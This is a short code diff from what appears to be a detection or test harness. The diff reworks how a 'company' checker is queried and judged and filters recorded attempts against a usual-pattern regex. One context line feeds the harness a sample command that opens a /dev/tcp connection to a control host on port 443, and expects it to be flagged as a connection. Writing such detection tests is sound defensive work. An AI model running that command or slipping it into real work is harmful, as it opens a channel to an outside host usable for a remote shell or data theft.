@@ -90,8 +90,11 @@ def _lived(folder: Path, source: Path, company: behind.Company | None, recorder:
             wrong += _noticed(
                 recorder, on_node, f"exec 3<>/dev/tcp/{CONTROL}/443; read <&3", {f"connects to {CONTROL}:443"}
             )
-            wrong += company.ask(NODE, recorder) if company else []
-    return wrong + (company.judged() if company else [])
+            wrong += company.ask(NODE) if company else []
+    if company:
+        wrong += company.judged()
+        recorder.attempts[:] = [attempt for attempt in recorder.attempts if not behind.USUAL.fullmatch(attempt.text)]
+    return wrong
 
 
 def first(folder: Path, source: Path, company: bool) -> int:
